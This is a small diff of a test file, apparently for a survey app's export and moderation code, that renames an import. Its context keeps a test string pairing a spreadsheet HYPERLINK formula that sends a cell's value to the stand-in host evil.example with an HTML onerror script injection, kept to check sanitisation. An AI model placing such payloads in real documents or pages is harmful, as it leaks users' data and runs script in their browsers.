@@ -7,7 +7,7 @@ import re
 
 from survey.publish.downloads import FORMULA_STARTS
 from tests.intake.test_hostile_text import FORMULA, XSS, _number
-from tests.moderation_support import PASSWORD, make_user, moderator, submit
+from tests.support import PASSWORD, make_user, moderator, submit
 
 NOTE = '=HYPERLINK("http://evil.example/?q="&A1,"Open") <img src=x onerror="document.body.dataset.pwned=1">'
 
